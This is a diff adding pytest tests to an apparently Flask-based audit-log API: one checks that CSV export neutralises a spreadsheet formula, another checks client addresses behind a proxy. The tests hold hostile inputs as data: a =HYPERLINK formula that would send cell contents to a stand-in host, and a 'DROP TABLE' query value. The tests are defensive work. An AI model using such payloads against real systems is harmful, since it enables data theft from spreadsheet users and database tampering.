@@ -89,3 +89,30 @@ def test_odd_dates_are_refused(client: FlaskClient, world: World) -> None:
                   {"from": "2026-03-02", "to": "2026-03-02", "action": "DROP TABLE"}):
         check_error(client.get("/api/v1/audit", query_string=query,
                                headers=world.headers("admin")), 400, "invalid_parameters")
+
+
+def test_csv_cells_never_become_formulas(client: FlaskClient, world: World) -> None:
+    log_in(client, username='=HYPERLINK("http://x/?"&A1,"ok")', password="sai")
+    answer = client.get("/api/v1/audit", query_string={**DAY, "format": "csv"},
+                        headers=world.headers("admin"))
+    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
+    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][4] == "login_failed"
+
+
+def test_behind_a_proxy_each_client_has_its_address(sqlite_url: str, clock: Clock) -> None:
+    from tests.conftest import make_app
+    from tests.factories import build_world
+
+    for proxies, expected in ((0, "127.0.0.1"), (1, "203.0.113.7")):
+        app = make_app(sqlite_url.replace(".sqlite", f"{proxies}.sqlite"), clock,
+                       PROXY_FIX=proxies)
+        try:
+            world = build_world(app, clock.now)
+            client = app.test_client()
+            forwarded = {**world.headers("admin"), "X-Forwarded-For": "203.0.113.7"}
+            assert client.post("/api/v1/fields", json={"code": "XD", "name": "Xây dựng"},
+                               headers=forwarded).status_code == 201
+            log = client.get("/api/v1/audit", query_string=DAY, headers=world.headers("admin"))
+            assert log.get_json()[0]["address"] == expected, proxies
+        finally:
+            app.extensions["hall.engine"].dispose()
